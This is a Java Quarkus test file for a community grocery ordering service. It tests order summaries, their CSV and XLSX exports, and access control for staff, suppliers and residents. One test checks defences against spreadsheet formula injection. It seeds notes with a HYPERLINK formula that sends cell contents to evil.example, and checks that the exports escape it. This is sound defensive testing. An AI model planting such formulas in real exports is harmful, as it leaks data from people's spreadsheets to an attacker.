package org.tongxin.order;

import static org.hamcrest.Matchers.*;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.tongxin.support.Problems.problem;

import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.tongxin.auth.Role;
import org.tongxin.support.Api;
import org.tongxin.support.OrderFixture;
import org.tongxin.support.OrgFixture;

/** The window summary for staff and suppliers, and its CSV and XLSX sheets, which add up to the same totals. */
@QuarkusTest
class SummaryTest {

    @Test
    void theSheetsAddUpToTheSummaryAndOnlyStaffAndSuppliersReadThem() throws Exception {
        Api.User admin = Api.districtAdmin();
        OrgFixture org = OrgFixture.streetToHousehold(admin);
        Api.User staff = Api.withRole(Role.COMMUNITY_STAFF, org.community());
        UUID meat = OrderFixture.product(staff, org, "肉蔬包", 3, "二号保供公司");
        UUID rice = OrderFixture.product(staff, org, "米面包", 3, "一号保供公司");
        UUID veg = OrderFixture.product(staff, org, "蔬菜包", 3);
        UUID window = OrderFixture.openWindow(staff, org, Map.of(meat, 100, rice, 100, veg, 100));
        OrderFixture.household(staff, org).as().header("Idempotency-Key", "v").body(OrderFixture.order(window, veg, 2))
                .post("/api/orders").then().statusCode(201);
        for (int i = 0; i < 4; i++) {
            OrderFixture.household(staff, org).as().header("Idempotency-Key", "k")
                    .body(Map.of("windowId", window, "items", List.of(Map.of("productId", meat, "quantity", 1 + i % 2),
                            Map.of("productId", rice, "quantity", 1)), "note", "放门口 " + i))
                    .post("/api/orders").then().statusCode(201);
        }
        Api.User cancelled = OrderFixture.household(staff, org);
        String gone = cancelled.as().header("Idempotency-Key", "c").body(OrderFixture.order(window, meat, 3))
                .post("/api/orders").then().statusCode(201).extract().path("id");
        cancelled.as().post("/api/orders/" + gone + "/cancel").then().statusCode(200);

        var json = staff.as().get("/api/ordering-windows/" + window + "/summary?groupBy=building").then().statusCode(200)
                .body("byBuilding.size()", equalTo(3)).extract().jsonPath();
        Map<String, Integer> totals = new HashMap<>();
        json.getList("totals", Map.class).forEach(t -> totals.put((String) t.get("productName"), (Integer) t.get("quantity")));
        assertEquals(List.of(2, 4, 6), totals.values().stream().sorted().toList(),
                "veg 2, rice 4 × 1, meat 1+2+1+2; the cancelled order is out");
        assertEquals(List.of("一号保供公司", "二号保供公司"), json.getList("totals.supplier").subList(0, 2), "by supplier, then product");
        assertEquals(null, json.getList("totals.supplier").get(2), "a product without a supplier comes last");
        assertEquals(java.util.Arrays.asList("一号保供公司", "二号保供公司", null), json.getList("purchaseLists.supplier"));
        assertEquals(List.of(4 * 3000, 6 * 3000, 2 * 3000), json.getList("purchaseLists.amountFen", Integer.class));
        assertEquals(List.of(1, 1, 1), json.getList("purchaseLists.collect { it.lines.size() }", Integer.class));

        String csv = staff.as().accept("text/csv").get("/api/ordering-windows/" + window + "/summary").then().statusCode(200)
                .contentType(startsWith("text/csv")).extract().asString();
        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.substring(1))).getRecords();
        assertEquals(9, records.size());
        Map<String, Integer> fromCsv = new HashMap<>();
        records.forEach(r -> fromCsv.merge(r.get("商品 Product"), Integer.parseInt(r.get("数量 Quantity")), Integer::sum));
        assertEquals(totals, fromCsv);
        assertTrue(records.stream().allMatch(r -> r.get("签收 Signed").isEmpty()), "a blank column to sign");

        byte[] xlsx = staff.as().get("/api/ordering-windows/" + window + "/summary?format=xlsx").then().statusCode(200)
                .extract().asByteArray();
        Map<String, Integer> fromSheet = new HashMap<>();
        Map<String, Integer> fromPurchase = new HashMap<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            List<Row> rows = wb.getSheets().toList().get(0).read();
            rows.stream().skip(1).forEach(r -> fromSheet.merge(r.getCellText(2), Integer.parseInt(r.getCellText(3)), Integer::sum));
            List<Row> purchase = wb.getSheets().toList().get(1).read();
            purchase.stream().skip(1).forEach(r -> fromPurchase.put(r.getCellText(1), Integer.parseInt(r.getCellText(3))));
            assertEquals(List.of("一号保供公司", "二号保供公司", WindowSummaryService.NO_SUPPLIER),
                    purchase.stream().skip(1).map(r -> r.getCellText(0)).toList());
        }
        assertEquals(totals, fromSheet);
        assertEquals(totals, fromPurchase);

        // A supplier reads its own products only (its grant names it), and packs per building: its
        // sheets name no room, no delivery mode and no note.
        Api.User supplier = OrderFixture.supplier(staff, org, "一号保供公司");
        supplier.as().get("/api/ordering-windows/" + window + "/summary").then().statusCode(200)
                .body("byBuilding.productName", contains(startsWith("米面包"))).body("totals.productName", contains(startsWith("米面包")))
                .body("purchaseLists.supplier", equalTo(List.of("一号保供公司")));
        String packing = supplier.as().accept("text/csv").get("/api/ordering-windows/" + window + "/summary").then()
                .statusCode(200).extract().asString();
        List<CSVRecord> packed = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(packing.substring(1))).getRecords();
        assertEquals(1, packed.size(), packing);
        assertTrue(packed.stream().allMatch(r -> r.get("房号 Room").isEmpty() && r.get("备注 Note").isEmpty()
                && r.get("方式 Delivery").isEmpty()), packing);
        assertTrue(packed.get(0).get("商品 Product").startsWith("米面包"), packing);
        assertEquals("4", packed.get(0).get("数量 Quantity"));
        byte[] supplierXlsx = supplier.as().get("/api/ordering-windows/" + window + "/summary?format=xlsx").then()
                .statusCode(200).extract().asByteArray();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(supplierXlsx))) {
            List<Row> sheet = wb.getSheets().toList().get(0).read();
            assertEquals(2, sheet.size());
            assertTrue(sheet.stream().skip(1).allMatch(r -> r.getCellText(1).isEmpty() && r.getCellText(5).isEmpty()),
                    "no rooms or notes");
            assertEquals(List.of("一号保供公司"), wb.getSheets().toList().get(1).read().stream().skip(1)
                    .map(r -> r.getCellText(0)).toList(), "its own purchase list only");
        }
        Api.withRole(Role.SUPPLIER, org.community()).as().get("/api/ordering-windows/" + window + "/summary").then()
                .statusCode(200).body("totals", empty()).body("byBuilding", empty());
        supplier.as().body(Map.of("communityId", org.communityId(), "name", "x", "kind", "VEG", "priceFen", 1, "unit", "份",
                "perHouseholdLimit", 1)).post("/api/products").then().spec(problem(403, "FORBIDDEN"));
        OrgFixture other = OrgFixture.streetToHousehold(admin);
        Api.withRole(Role.SUPPLIER, other.community()).as().get("/api/ordering-windows/" + window + "/summary").then()
                .spec(problem(403, "FORBIDDEN"));
        Api.resident().as().get("/api/ordering-windows/" + window + "/summary").then().spec(problem(403, "FORBIDDEN"));
        staff.as().get("/api/ordering-windows/" + UUID.randomUUID() + "/summary").then().spec(problem(404, "WINDOW_NOT_FOUND"));
    }

    @Test
    void cellsThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws Exception {
        Api.User admin = Api.districtAdmin();
        OrgFixture org = OrgFixture.streetToHousehold(admin);
        Api.User staff = Api.withRole(Role.COMMUNITY_STAFF, org.community());
        List<String> starts = List.of("=", "+", "-", "@");
        Map<String, String> expected = new HashMap<>();
        List<UUID> products = new java.util.ArrayList<>();
        for (String start : starts) {
            products.add(OrderFixture.product(staff, org, start + "SUM(1+1)包" + Api.unique(""), 3));
        }
        UUID window = OrderFixture.openWindow(staff, org, Map.of(products.get(0), 10, products.get(1), 10, products.get(2), 10,
                products.get(3), 10));
        for (int i = 0; i < starts.size(); i++) {
            String room = starts.get(i) + "1+" + Api.unique("2");
            String joinCode = staff.as().body(Map.of("room", room)).post("/api/buildings/" + org.buildingId() + "/households")
                    .then().statusCode(201).extract().path("joinCode");
            Api.User resident = Api.resident();
            resident.as().body(Map.of("joinCode", joinCode)).post("/api/me/household").then().statusCode(200);
            String note = starts.get(i) + "HYPERLINK(\"http://evil.example/?\"&A2&B2,\"点此确认\")";
            resident.as().header("Idempotency-Key", "n").body(Map.of("windowId", window, "items",
                    List.of(Map.of("productId", products.get(i), "quantity", 1)), "note", note)).post("/api/orders")
                    .then().statusCode(201);
            expected.put(room, note);
        }
        String csv = staff.as().accept("text/csv").get("/api/ordering-windows/" + window + "/summary").then().statusCode(200)
                .extract().asString();
        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.substring(1))).getRecords();
        assertEquals(starts.size(), records.size());
        for (CSVRecord r : records) {
            String room = r.get(1).substring(1);
            assertEquals("'" + room, r.get(1), "room");
            assertTrue(r.get("商品 Product").startsWith("'") && starts.contains(r.get("商品 Product").substring(1, 2)), r.toString());
            assertEquals("'" + expected.get(room), r.get(5), "note");
        }
        byte[] xlsx = staff.as().get("/api/ordering-windows/" + window + "/summary?format=xlsx").then().statusCode(200)
                .extract().asByteArray();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            wb.getSheets().toList().get(0).read().stream().skip(1)
                    .forEach(r -> assertEquals(expected.get(r.getCellText(1)), r.getCellText(5), "XLSX cells stay plain strings"));
        }
        // A tab or carriage return never reaches a sheet: such text is refused where it is typed.
        for (String control : List.of("\t=1+1", "\r=1+1")) {
            staff.as().body(Map.of("room", control)).post("/api/buildings/" + org.buildingId() + "/households")
                    .then().spec(problem(400, "VALIDATION_FAILED"));
            OrderFixture.household(staff, org).as().header("Idempotency-Key", "t").body(Map.of("windowId", window, "items",
                    List.of(Map.of("productId", products.get(0), "quantity", 1)), "note", control)).post("/api/orders")
                    .then().spec(problem(400, "VALIDATION_FAILED"));
        }
    }
}
